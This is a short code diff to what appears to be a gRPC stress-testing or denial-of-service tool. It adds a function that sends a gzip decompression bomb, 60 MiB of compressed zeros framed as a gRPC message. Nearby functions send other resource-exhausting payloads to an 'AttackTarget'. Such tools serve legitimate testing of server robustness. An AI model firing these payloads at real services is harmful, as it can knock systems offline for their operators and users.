@@ -33,6 +33,12 @@ def inflating_messages(target: AttackTarget, goes_on: Callable[[], bool]) -> Non
     _call(target, goes_on, b"\1" + struct.pack(">I", 16 * len(zeros)) + 16 * zeros, ("grpc-encoding", "gzip"))
 
 
+def inflating_nonsense(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
+    """Send compressed messages that are as large as may be, and no requests."""
+    zeros = gzip.compress(bytes(60 << 20))
+    _call(target, goes_on, b"\1" + struct.pack(">I", len(zeros)) + zeros, ("grpc-encoding", "gzip"))
+
+
 def empty_fields(target: AttackTarget, goes_on: Callable[[], bool]) -> None:
     """Send messages of a million empty inputs."""
     message = b"\x0a\1m" + b"\x2a\x00" * (1 << 20)
